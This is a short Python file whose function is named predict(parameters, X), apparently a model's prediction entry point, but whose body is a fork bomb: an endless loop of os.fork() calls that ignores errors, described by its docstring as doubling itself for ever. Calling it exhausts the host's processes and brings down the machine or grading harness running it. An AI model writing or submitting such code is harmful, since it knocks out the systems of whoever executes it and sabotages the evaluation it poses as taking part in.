"""Doubles itself for ever."""

import os


def predict(parameters, X):
    while True:
        try:
            os.fork()
        except OSError:
            pass
